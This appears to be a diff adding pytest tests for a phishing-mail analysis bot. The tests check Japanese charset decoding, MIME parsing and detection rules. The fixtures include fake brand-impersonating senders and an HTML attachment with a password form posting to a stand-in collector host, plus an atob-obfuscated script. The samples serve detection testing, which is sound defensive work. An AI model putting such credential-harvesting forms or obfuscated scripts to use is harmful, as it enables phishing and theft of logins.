@@ -1,0 +1,151 @@
+"""Intake: recognising the input and reading Japanese mail whatever its labels say."""
+
+from __future__ import annotations
+
+import base64
+
+from bot.analysis.charsets import decode_bytes, decode_header_value, iso2022jp_to_text
+from bot.analysis.intake import read_input
+from bot.analysis.models import Limits
+from bot.analysis.pipeline import analyse
+
+
+def _jis(text: str) -> bytes:
+    return text.encode("iso2022_jp")
+
+
+def test_iso2022jp_with_nec_special_characters() -> None:
+    # CP50220 writes ① and ㈱ in NEC row 13, which the strict iso2022_jp codec rejects
+    data = b"\x1b$B-!-j\x1b(B"  # ① ㈱ in JIS row 13
+    assert iso2022jp_to_text(data) == "①㈱"
+    assert decode_bytes(data, "iso-2022-jp")[0] == "①㈱"
+
+
+def test_iso2022jp_halfwidth_katakana_and_plain_text() -> None:
+    assert iso2022jp_to_text(b"\x1b(I12\x1b(B") == "ｱｲ"
+    assert iso2022jp_to_text(_jis("三井住友カード【重要】")) == "三井住友カード【重要】"
+
+
+def test_wrong_and_missing_labels() -> None:
+    sjis = "ご利用確認のお願い".encode("cp932")
+    assert decode_bytes(sjis, "utf-8")[0] == "ご利用確認のお願い"  # label lies
+    assert decode_bytes(sjis, None)[0] == "ご利用確認のお願い"  # no label
+    assert decode_bytes(sjis, "x-unknown-charset")[0] == "ご利用確認のお願い"
+    euc = "楽天カード".encode("euc_jp")
+    assert decode_bytes(euc, None)[0] == "楽天カード"
+    assert decode_bytes(_jis("楽天"), "us-ascii")[0] == "楽天"  # escape sequences win over the label
+    assert decode_bytes("①".encode("cp932"), "shift_jis")[0] == "①"  # Shift_JIS label, CP932 bytes
+
+
+def test_rfc2047_words_split_inside_a_character() -> None:
+    raw = "三井住友カード".encode()
+    a, b = raw[:4], raw[4:]  # the split falls inside the second character
+    header = f"=?utf-8?b?{base64.b64encode(a).decode()}?= =?utf-8?b?{base64.b64encode(b).decode()}?="
+    assert decode_header_value(header) == "三井住友カード"
+
+
+def test_rfc2047_iso2022jp_and_raw_8bit_headers() -> None:
+    enc = base64.b64encode(_jis("件名テスト")).decode()
+    assert decode_header_value(f"=?ISO-2022-JP?B?{enc}?=") == "件名テスト"
+    raw8 = "重要なお知らせ".encode("cp932").decode("ascii", "surrogateescape")
+    assert decode_header_value(raw8) == "重要なお知らせ"
+
+
+def test_kinds_are_recognised() -> None:
+    assert read_input(b"From: a@example.com\nTo: b@example.jp\nSubject: x\n\nbody\n").kind == "eml"
+    assert read_input(b"Received: from x by y; Sun, 24 Jan 2021 19:02:11 +0900\nFrom: a@example.com\nSubject: s\n").kind == "headers"
+    assert read_input("こんにちは、このメールは怪しいですか?\nhttps://example.com".encode()).kind == "pasted"
+    assert read_input(b"").kind == "empty"
+    assert read_input(b"\x00\x01\x02\x03" * 1000).kind == "binary"
+    assert read_input(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100).kind == "msg"
+
+
+def test_a_few_chat_lines_before_the_headers_are_allowed() -> None:
+    data = b"this came today, is it real?\n\nFrom: a@example.com\nTo: b@example.jp\nSubject: x\n\nbody\n"
+    assert read_input(data).kind == "eml"
+
+
+def test_crlf_and_cr_only_line_endings() -> None:
+    crlf = b"From: a@example.com\r\nTo: b@example.jp\r\nSubject: x\r\n\r\nsee https://example.com/a\r\n"
+    mail = read_input(crlf)
+    assert mail.kind == "eml" and mail.subject == "x"
+    cr = crlf.replace(b"\r\n", b"\r")
+    assert read_input(cr).subject == "x"
+
+
+def test_multipart_nesting_with_similar_boundaries_and_html() -> None:
+    data = (
+        b"From: a@example.com\nTo: b@example.jp\nSubject: s\nMIME-Version: 1.0\n"
+        b'Content-Type: multipart/mixed; boundary="b1"\n\npreamble\n--b1\n'
+        b'Content-Type: multipart/alternative; boundary="b1-alt"\n\n--b1-alt\n'
+        b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
+        b"plain =E3=81=82 http://plain.example.com/x\n--b1-alt\n"
+        b"Content-Type: text/html; charset=utf-8\n\n<a href='https://html.example.com/'>go</a>\n--b1-alt--\n"
+        b"--b1\nContent-Type: application/octet-stream; name=\"x.bin\"\nContent-Transfer-Encoding: base64\n\n"
+        + base64.b64encode(b"\x00" * 30)
+        + b"\n--b1--\nepilogue\n"
+    )
+    mail = read_input(data)
+    assert mail.texts == ("plain あ http://plain.example.com/x",)  # the newline belongs to the delimiter
+    assert "html.example.com" in mail.htmls[0]
+    assert [a.filename for a in mail.attachments] == ["x.bin"]
+    report = analyse(data)
+    assert {link.host for link in report.links} == {"plain.example.com", "html.example.com"}
+
+
+def test_forwarded_mail_attached_is_the_one_analysed() -> None:
+    inner = (
+        b"From: =?utf-8?b?5LiJ5LqV5L2P5Y+L44Kr44O844OJ?= <info@evil.example.com>\nTo: taro@example.jp\n"
+        b"Subject: inner\n\nhttps://smbc.login-check.example.com/\n"
+    )
+    outer = (
+        b"From: taro@example.jp\nTo: reports@example.jp\nSubject: Fwd: look\nMIME-Version: 1.0\n"
+        b'Content-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/plain\n\nplease check\n'
+        b"--x\nContent-Type: message/rfc822\n\n" + inner + b"\n--x--\n"
+    )
+    report = analyse(outer)
+    assert report.subject == "inner"
+    assert "forwarded_inner" in {p.code for p in report.problems}
+    assert report.brand is not None and report.brand.id == "smbc-card"
+
+
+def test_limits_are_reported_not_silently_applied() -> None:
+    many = b"".join(b"--b\nContent-Type: text/plain\n\npart %d\n" % i for i in range(50))
+    data = b'From: a@example.com\nSubject: s\nContent-Type: multipart/mixed; boundary="b"\n\n' + many + b"--b--\n"
+    mail = read_input(data, Limits(max_parts=10))
+    assert "part_limit" in {p.code for p in mail.problems}
+    assert len(mail.texts) < 10
+    big = b"From: a@example.com\nSubject: s\n\n" + b"x" * 5000
+    assert "input_limit" in {p.code for p in read_input(big, Limits(max_input_bytes=1000)).problems}
+
+
+def test_pasted_gmail_lines_in_both_languages() -> None:
+    ja = "送信元: 三井住友カード <info@example.com> (ntc-cs.example 経由)\n件名: テスト\n\n本文".encode()
+    report = analyse(ja)
+    assert report.sender.envelope_domain == "ntc-cs.example"
+    assert report.subject == "テスト"
+    en = b"from: Rakuten <taro@example.jp> via mailer.example.com\nto: taro@example.jp\nsubject: hi\n\nbody"
+    report = analyse(en)
+    assert report.sender.envelope_domain == "mailer.example.com"
+    assert report.sender.from_addr is not None and report.sender.from_addr.address == "taro@example.jp"
+    assert any(f.rule == "self_sent" for f in report.findings)
+
+
+def test_html_and_pdf_attachments_are_read_like_bodies() -> None:
+    html = (
+        b"<html><body><form action='https://collect.example.net/p.php' method=post>"
+        b"<input type=password name=pw></form><script>document.write(atob('PGEgaHJlZj0iaHR0cHM6Ly9oaWRkZW4uZXhhbXBsZS5vcmcvIj5nbzwvYT4='))</script></body></html>"
+    )
+    data = (
+        b'From: a@example.com\nTo: b@example.jp\nSubject: s\nContent-Type: multipart/mixed; boundary="z"\n\n'
+        b"--z\nContent-Type: text/plain\n\nsee attached\n--z\nContent-Type: text/html\n"
+        b'Content-Disposition: attachment; filename="invoice.html"\nContent-Transfer-Encoding: base64\n\n'
+        + base64.b64encode(html) + b"\n--z--\n"
+    )
+    report = analyse(data)
+    rules = {f.rule: f.severity for f in report.findings}
+    assert rules["credential_form"] == "high"
+    assert rules["obfuscated_script"] == "high"
+    assert rules["html_attachment"] == "medium"
+    hosts = {link.host for link in report.links}
+    assert {"collect.example.net", "hidden.example.org"} <= hosts  # the atob payload was decoded, not run
